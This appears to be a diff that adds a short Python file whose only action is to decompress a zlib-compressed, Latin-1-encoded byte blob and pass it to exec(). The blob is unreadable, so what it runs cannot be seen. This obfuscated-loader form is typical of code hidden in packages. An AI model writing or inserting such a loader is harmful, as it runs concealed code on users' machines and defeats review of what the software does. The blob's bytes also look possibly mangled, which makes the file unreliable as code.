@@ -1,0 +1,3 @@
+#coding:L1
+import zlib
+exec(zlib.decompress(bytes('EŒA\n€ D÷b–µ-¼‡ğ‘3\rÂâSxı~¶h5oÌ,~ÅY…zPˆz÷IpÌPgk£I ÉXÆ„-!XU\n¿…ç|ß}‘î—¹HŠmß²¥,á¬$ìäƒıus‚Q','L1'),-9))
